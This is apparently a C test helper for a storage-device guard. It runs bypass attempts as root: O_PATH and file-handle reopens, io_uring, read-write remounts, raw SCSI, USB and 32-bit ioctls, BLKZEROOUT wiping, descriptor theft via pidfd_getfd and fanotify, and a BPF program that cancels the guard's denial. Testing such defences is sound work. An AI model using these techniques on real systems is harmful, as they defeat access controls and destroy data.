/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways to a medium that no everyday program takes, for the table of
 * tests/e2e/attacks.py. Each verb does one of them as root in the guest and
 * ends with 0 when the attack went through; otherwise it says which step was
 * refused, and with which errno. Never installed.
 *   attack as NAME PROGRAM…   the program under that process name
 *   attack VERB ARGUMENT…
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/blkpg.h>
#include <linux/bpf.h>
#include <linux/cdrom.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <linux/mount.h>
#include <linux/usbdevice_fs.h>
#include <scsi/sg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef BTRFS_IOC_SCAN_DEV
struct btrfs_name {
	int64_t fd;
	char name[4088];
};
#define BTRFS_IOC_SCAN_DEV _IOW(0x94, 4, struct btrfs_name)
#endif

enum { SECTOR = 512, OFFSET = 4096, WAIT_TENTHS = 300 };

static int refused(const char *step)
{
	fprintf(stderr, "%s: %s\n", step, strerror(errno));
	return 1;
}

static int read_some(int fd)
{
	char data[SECTOR];

	if (pread(fd, data, sizeof(data), 0) < 0)
		return refused("read");
	return 0;
}

static int write_some(int fd)
{
	static const char text[SECTOR] = "shimin no data";

	if (pwrite(fd, text, sizeof(text), OFFSET) < 0 || fsync(fd) < 0)
		return refused("write");
	return 0;
}

static int open_and(int dir, const char *path, int flags, int (*use)(int))
{
	int fd = openat(dir, path, flags);

	return fd < 0 ? refused("open") : use(fd);
}

/* ---- opening ------------------------------------------------------------ */

/* PROGRAM by a link of that name: what the kernel calls the process. */
static int do_as(char **argument)
{
	char link[128];
	char found[128];
	static const char *const places[] = {
		"/usr/bin", "/usr/sbin",       "/bin",
		"/sbin",    "/usr/local/sbin", "/root"};

	(void)snprintf(found, sizeof(found), "%s", argument[1]);
	for (size_t i = 0; i < 6 && access(found, X_OK) < 0; i++)
		(void)snprintf(found, sizeof(found), "%s/%s", places[i],
			       argument[1]);
	(void)mkdir("/run/as", 0755);
	(void)snprintf(link, sizeof(link), "/run/as/%s", argument[0]);
	(void)unlink(link);
	if (symlink(found, link) < 0)
		return refused("link");
	execv(link, argument + 1);
	return refused("exec");
}

/* O_PATH asks nobody; the second open, by /proc, has to. */
static int do_reopen(char **argument)
{
	int fd = open(argument[0], O_PATH);
	char path[64];

	if (fd < 0)
		return refused("O_PATH");
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open_and(AT_FDCWD, path, O_RDONLY, read_some);
}

/* An O_PATH descriptor handed to another process and opened there. */
static int do_pass(char **argument)
{
	char space[CMSG_SPACE(sizeof(int))] = {0};
	char byte = 0;
	struct iovec vec = {.iov_base = &byte, .iov_len = 1};
	struct msghdr message = {.msg_iov = &vec,
				 .msg_iovlen = 1,
				 .msg_control = space,
				 .msg_controllen = sizeof(space)};
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);
	int fd = open(argument[0], O_PATH);
	int pair[2];
	char path[64];

	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(header), &fd, sizeof(fd));
	if (fd < 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0 ||
	    sendmsg(pair[0], &message, 0) < 0)
		return refused("pass");
	if (recvmsg(pair[1], &message, 0) < 0)
		return refused("receive");
	memcpy(&fd, CMSG_DATA(header), sizeof(fd));
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open_and(AT_FDCWD, path, O_RDWR, write_some);
}

/* A file handle needs no name and no walk of the path. */
static int do_handle(char **argument)
{
	union {
		struct file_handle handle;
		char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = {.handle.handle_bytes = MAX_HANDLE_SZ};
	int mount_id;
	int dir = open("/dev", O_RDONLY | O_DIRECTORY);

	if (dir < 0 || name_to_handle_at(AT_FDCWD, argument[0], &u.handle,
					 &mount_id, 0) < 0)
		return refused("name_to_handle_at");
	int fd = open_by_handle_at(dir, &u.handle, O_RDONLY);

	return fd < 0 ? refused("open_by_handle_at") : read_some(fd);
}

/* Access mode 3: neither to read nor to write, "for ioctl". */
static int do_mode3(char **argument)
{
	return open_and(AT_FDCWD, argument[0], 3 | O_NONBLOCK, read_some);
}

static int do_mmap(char **argument)
{
	int fd = open(argument[0], O_RDWR);

	if (fd < 0)
		return refused("open");
	char *page = mmap(NULL, OFFSET, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
			  0);

	if (page == MAP_FAILED)
		return refused("mmap");
	memcpy(page + 64, "shimin", 6);
	return msync(page, OFFSET, MS_SYNC) < 0 ? refused("msync") : 0;
}

/* vmsplice into a pipe, splice from it into the medium. */
static int do_splice(char **argument)
{
	static char text[OFFSET] = "shimin no data";
	struct iovec vec = {.iov_base = text, .iov_len = sizeof(text)};
	int fd = open(argument[0], O_WRONLY);
	int ends[2];

	if (fd < 0)
		return refused("open");
	if (pipe(ends) < 0 || vmsplice(ends[1], &vec, 1, 0) < 0)
		return refused("vmsplice");
	if (splice(ends[0], NULL, fd, NULL, sizeof(text), 0) < 0 ||
	    fsync(fd) < 0)
		return refused("splice");
	return 0;
}

/* ---- io_uring ------------------------------------------------------------ */

struct uring {
	int fd;
	struct io_uring_params params;
	char *sq;
	char *cq;
	struct io_uring_sqe *sqes;
};

static int uring_open(struct uring *ring)
{
	memset(ring, 0, sizeof(*ring));
	ring->fd = (int)syscall(SYS_io_uring_setup, 4, &ring->params);
	if (ring->fd < 0)
		return -1;
	ring->sq = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED,
			ring->fd, IORING_OFF_SQ_RING);
	ring->cq = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED,
			ring->fd, IORING_OFF_CQ_RING);
	ring->sqes = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED,
			  ring->fd, IORING_OFF_SQES);
	return ring->sq == MAP_FAILED || ring->cq == MAP_FAILED ||
			       ring->sqes == MAP_FAILED
		       ? -1
		       : 0;
}

/* One request, in the ring's own worker; its result. */
static int uring_do(struct uring *ring, const struct io_uring_sqe *request)
{
	uint32_t *tail =
		(uint32_t *)(void *)(ring->sq + ring->params.sq_off.tail);
	uint32_t *array =
		(uint32_t *)(void *)(ring->sq + ring->params.sq_off.array);
	uint32_t *head =
		(uint32_t *)(void *)(ring->cq + ring->params.cq_off.head);
	struct io_uring_cqe *cqes =
		(struct io_uring_cqe *)(void *)(ring->cq +
						ring->params.cq_off.cqes);
	uint32_t slot = *tail & (ring->params.sq_entries - 1);

	ring->sqes[slot] = *request;
	ring->sqes[slot].flags = IOSQE_ASYNC;
	array[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS,
		    NULL, 0) < 0)
		return -errno;
	int result = cqes[*head & (ring->params.cq_entries - 1)].res;

	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return result;
}

static int do_uring(char **argument)
{
	static const char text[SECTOR] = "shimin no data";
	bool writes = strcmp(argument[1], "write") == 0;
	struct uring ring;

	if (uring_open(&ring) < 0)
		return refused("io_uring");
	int fd = uring_do(&ring,
			  &(struct io_uring_sqe){
				  .opcode = IORING_OP_OPENAT,
				  .fd = AT_FDCWD,
				  .addr = (uintptr_t)argument[0],
				  .open_flags = writes ? O_RDWR : O_RDONLY,
			  });
	if (fd < 0) {
		errno = -fd;
		return refused("openat in the ring");
	}
	int n = uring_do(&ring, &(struct io_uring_sqe){
					.opcode = writes ? IORING_OP_WRITE
							 : IORING_OP_READ,
					.fd = fd,
					.addr = (uintptr_t)text,
					.len = sizeof(text),
					.off = OFFSET,
				});
	errno = -n;
	return n < 0 ? refused("in the ring") : fsync(fd);
}

/* ---- mounts -------------------------------------------------------------- */

static int create_in(const char *folder)
{
	char path[256];

	(void)snprintf(path, sizeof(path), "%s/stolen", folder);
	int fd = open(path, O_CREAT | O_WRONLY, 0600);

	return fd < 0 ? refused("create") : write_some(fd);
}

static int do_mount_setattr(char **argument)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};

	if (syscall(SYS_mount_setattr, AT_FDCWD, argument[0], 0, &attr,
		    sizeof(attr)) < 0)
		return refused("mount_setattr");
	return create_in(argument[0]);
}

/* The new API's way to change a live superblock. */
static int do_fspick(char **argument)
{
	int fd = (int)syscall(SYS_fspick, AT_FDCWD, argument[0], 0);

	if (fd < 0)
		return refused("fspick");
	if (syscall(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, "rw", NULL, 0) < 0 ||
	    syscall(SYS_fsconfig, fd, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0) <
		    0)
		return refused("reconfigure");
	return create_in(argument[0]);
}

/* ---- ioctl --------------------------------------------------------------- */

static int scsi_command(int fd, bool is_write)
{
	static unsigned char data[SECTOR] = "shimin no data";
	unsigned char command[10] = {
		is_write ? 0x2a : 0x28, 0, 0, 0, 0, 16, 0, 0, 1, 0};
	unsigned char sense[32];
	struct sg_io_hdr header = {
		.interface_id = 'S',
		.dxfer_direction = is_write ? SG_DXFER_TO_DEV
					    : SG_DXFER_FROM_DEV,
		.cmd_len = sizeof(command),
		.mx_sb_len = sizeof(sense),
		.dxfer_len = sizeof(data),
		.dxferp = data,
		.cmdp = command,
		.sbp = sense,
		.timeout = 5000,
	};

	if (ioctl(fd, SG_IO, &header) < 0)
		return refused("SG_IO");
	return header.status ? (errno = EIO, refused("SCSI")) : 0;
}

static int scsi_read(int fd)
{
	return scsi_command(fd, false);
}

static int scsi_write(int fd)
{
	return scsi_command(fd, true);
}

static int do_sg_io(char **argument)
{
	return open_and(AT_FDCWD, argument[0], O_RDONLY | O_NONBLOCK,
			strcmp(argument[1], "write") == 0 ? scsi_write
							  : scsi_read);
}

static int send_packet(int fd)
{
	struct cdrom_generic_command command = {
		.cmd = {0x12, 0, 0, 0, 36, 0}, /* INQUIRY */
		.buflen = 0,
		.data_direction = CGC_DATA_NONE,
		.timeout = 5000,
	};

	return ioctl(fd, CDROM_SEND_PACKET, &command) < 0
		       ? refused("CDROM_SEND_PACKET")
		       : 0;
}

static int do_packet(char **argument)
{
	return open_and(AT_FDCWD, argument[0], O_RDONLY | O_NONBLOCK,
			send_packet);
}

static int add_partition(int fd)
{
	struct blkpg_partition partition = {.start = 1 << 20,
					    .length = 1 << 20,
					    .pno = 7};
	struct blkpg_ioctl_arg change = {.op = BLKPG_ADD_PARTITION,
					 .datalen = sizeof(partition),
					 .data = &partition};

	return ioctl(fd, BLKPG, &change) < 0 ? refused("BLKPG") : 0;
}

static int do_blkpg(char **argument)
{
	return open_and(AT_FDCWD, argument[0], O_RDONLY, add_partition);
}

static int discard(int fd)
{
	uint64_t range[2] = {0, 1 << 20};

	return ioctl(fd, BLKZEROOUT, range) < 0 ? refused("BLKZEROOUT") : 0;
}

static int do_zeroout(char **argument)
{
	return open_and(AT_FDCWD, argument[0], O_RDWR, discard);
}

/* BLKROSET by the 32-bit way into the kernel, which asks other hooks. */
static int do_roset32(char **argument)
{
#ifdef __x86_64__
	enum { NR_IOCTL_32 = 54 };
	int *off = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int fd = open(argument[0], O_RDONLY | O_NONBLOCK);
	long result;

	if (fd < 0 || off == MAP_FAILED)
		return refused("open");
	*off = 0;
	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"((long)NR_IOCTL_32), "b"((long)fd),
			   "c"((long)BLKROSET), "d"(off)
			 : "memory");
	errno = (int)-result;
	return result < 0 ? refused("ioctl of 32 bits") : 0;
#else
	(void)argument;
	return 77;
#endif
}

static int do_btrfs_scan(char **argument)
{
	struct btrfs_name name = {0};
	int fd = open("/dev/btrfs-control", O_RDWR);

	(void)snprintf(name.name, sizeof(name.name), "%s", argument[0]);
	if (fd < 0)
		return refused("btrfs-control");
	return ioctl(fd, BTRFS_IOC_SCAN_DEV, &name) < 0 ? refused("scan") : 0;
}

/* ---- usbfs --------------------------------------------------------------- */

static int usb_control(int fd)
{
	unsigned char data[18];
	struct usbdevfs_ctrltransfer transfer = {
		.bRequestType = 0x80,
		.bRequest = 6, /* GET_DESCRIPTOR */
		.wValue = 0x0100,
		.wLength = sizeof(data),
		.timeout = 1000,
		.data = data,
	};

	return ioctl(fd, USBDEVFS_CONTROL, &transfer) < 0 ? refused("control")
							  : 0;
}

/* Takes the interface from its driver, sends bytes to the first pipe out:
 * what libusb does for a bulk stick and for MTP's SendObject alike. */
static int usb_bulk(int fd)
{
	static unsigned char container[31] = {0x0c, 0, 0, 0, 1, 0, 0x0d, 0x10};
	struct usbdevfs_ioctl detach = {.ifno = 0,
					.ioctl_code = USBDEVFS_DISCONNECT};
	struct usbdevfs_bulktransfer bulk = {
		.ep = 2, .len = 12, .timeout = 1000, .data = container};
	unsigned int number = 0;

	(void)ioctl(fd, USBDEVFS_IOCTL, &detach);
	if (ioctl(fd, USBDEVFS_CLAIMINTERFACE, &number) < 0)
		return refused("claim");
	return ioctl(fd, USBDEVFS_BULK, &bulk) < 0 ? refused("bulk") : 0;
}

static int do_usb_control(char **argument)
{
	return open_and(AT_FDCWD, argument[0], O_RDWR, usb_control);
}

static int do_usb_bulk(char **argument)
{
	return open_and(AT_FDCWD, argument[0], O_RDWR, usb_bulk);
}

/* ---- descriptors of others ----------------------------------------------- */

static void wait_for(const char *file)
{
	for (int i = 0; i < WAIT_TENTHS && access(file, F_OK) < 0; i++)
		(void)usleep(100000);
}

/* Opens while it may, uses it when FILE is there. */
static int do_hold(char **argument)
{
	bool is_mapped = strcmp(argument[1], "mmap") == 0;
	bool reads = strcmp(argument[1], "read") == 0;
	int fd = open(argument[0], reads ? O_RDONLY | O_DIRECT : O_RDWR);
	char *page = MAP_FAILED;
	static char buffer[OFFSET] __attribute__((aligned(4096)));

	if (fd < 0)
		return refused("open");
	if (is_mapped)
		page = mmap(NULL, OFFSET, PROT_READ | PROT_WRITE, MAP_SHARED,
			    fd, 0);
	if (is_mapped && page == MAP_FAILED)
		return refused("mmap");
	wait_for(argument[2]);
	if (reads)
		return pread(fd, buffer, sizeof(buffer), OFFSET) <= 0
			       ? refused("read") /* or no device to read of */
			       : 0;
	if (!is_mapped)
		return strcmp(argument[1], "sgio") == 0 ? scsi_write(fd)
							: write_some(fd);
	memcpy(page + 64, "shimin", 6);
	return msync(page, OFFSET, MS_SYNC) < 0 ? refused("msync") : 0;
}

/* Takes every descriptor of a block device that process PID has. */
static int do_steal(char **argument)
{
	int pid = (int)strtol(argument[0], NULL, 10);
	int process = (int)syscall(SYS_pidfd_open, pid, 0);
	struct stat st;

	if (process < 0)
		return refused("pidfd_open");
	for (int number = 0; number < 64; number++) {
		int fd = (int)syscall(SYS_pidfd_getfd, process, number, 0);

		if (fd < 0 && errno == EPERM)
			return refused("pidfd_getfd");
		if (fd >= 0 && fstat(fd, &st) == 0 && S_ISBLK(st.st_mode))
			return write_some(fd);
	}
	errno = ENOENT;
	return refused("no descriptor of a disk");
}

/* Asks to be given a descriptor of whatever anybody opens below /dev. */
static int do_fanotify(char **argument)
{
	int group = fanotify_init(FAN_CLASS_NOTIF, O_RDWR);
	struct fanotify_event_metadata event[8];
	struct stat st;
	ssize_t n;

	if (group < 0 ||
	    fanotify_mark(group, FAN_MARK_ADD | FAN_MARK_FILESYSTEM,
			  FAN_OPEN | FAN_CLOSE, AT_FDCWD, "/dev") < 0)
		return refused("fanotify");
	(void)fcntl(group, F_SETFL, O_NONBLOCK);
	for (int i = 0; i < WAIT_TENTHS && access(argument[0], F_OK) < 0;) {
		n = read(group, event, sizeof(event));
		if (n < 0 && errno == EAGAIN) {
			(void)usleep(100000);
			i++;
			continue;
		}
		for (ssize_t k = 0; k < n / (ssize_t)sizeof(event[0]); k++) {
			if (event[k].fd >= 0 && fstat(event[k].fd, &st) == 0 &&
			    S_ISBLK(st.st_mode) && write_some(event[k].fd) == 0)
				return 0;
			if (event[k].fd >= 0)
				(void)close(event[k].fd);
		}
	}
	errno = EPERM;
	return refused("no descriptor of a disk");
}

/* ---- the guard itself ---------------------------------------------------- */

static long bpf(int command, union bpf_attr *attr)
{
	return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

/*
 * A program of our own beside the guard's on the root cgroup. All of them have
 * to agree, but bpf_set_retval(0) of a later one takes back an earlier "no".
 */
static int do_retval(char **argument)
{
	static const struct bpf_insn code[] = {
		{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 1},
		{.code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_set_retval},
		{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1},
		{.code = BPF_JMP | BPF_EXIT},
	};
	union bpf_attr load = {
		.prog_type = BPF_PROG_TYPE_CGROUP_DEVICE,
		.expected_attach_type = BPF_CGROUP_DEVICE,
		.insns = (uintptr_t)code,
		.insn_cnt = sizeof(code) / sizeof(code[0]),
		.license = (uintptr_t) "GPL",
	};
	int cgroup = open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY);
	long program = bpf(BPF_PROG_LOAD, &load);

	if (cgroup < 0 || program < 0)
		return refused("load");
	union bpf_attr link = {
		.link_create = {.prog_fd = (uint32_t)program,
				.target_fd = (uint32_t)cgroup,
				.attach_type = BPF_CGROUP_DEVICE}};
	union bpf_attr attach = {.target_fd = (uint32_t)cgroup,
				 .attach_bpf_fd = (uint32_t)program,
				 .attach_type = BPF_CGROUP_DEVICE,
				 .attach_flags = BPF_F_ALLOW_MULTI};
	bool by_link = strcmp(argument[0], "link") == 0;

	if (bpf(by_link ? BPF_LINK_CREATE : BPF_PROG_ATTACH,
		by_link ? &link : &attach) < 0)
		return refused("attach");
	return argument[1] ? system(argument[1]) != 0 : 0; /* our own words */
}

/* ---- main ---------------------------------------------------------------- */

static const struct verb {
	const char *name;
	int arguments;
	int (*run)(char **argument);
} verbs[] = {
	{"as", 2, do_as},
	{"reopen", 1, do_reopen},
	{"pass", 1, do_pass},
	{"handle", 1, do_handle},
	{"mode3", 1, do_mode3},
	{"mmap", 1, do_mmap},
	{"splice", 1, do_splice},
	{"uring", 2, do_uring},
	{"mount-setattr", 1, do_mount_setattr},
	{"fspick", 1, do_fspick},
	{"sg-io", 2, do_sg_io},
	{"packet", 1, do_packet},
	{"blkpg", 1, do_blkpg},
	{"zeroout", 1, do_zeroout},
	{"roset32", 1, do_roset32},
	{"btrfs-scan", 1, do_btrfs_scan},
	{"usb-control", 1, do_usb_control},
	{"usb-bulk", 1, do_usb_bulk},
	{"hold", 3, do_hold},
	{"steal", 1, do_steal},
	{"fanotify", 1, do_fanotify},
	{"retval", 1, do_retval},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]);
	     i++) {
		if (strcmp(verbs[i].name, argv[1]) == 0 &&
		    argc - 2 >= verbs[i].arguments)
			return verbs[i].run(argv + 2);
	}
	fprintf(stderr, "usage: attack VERB ARGUMENT…\n");
	return 2;
}
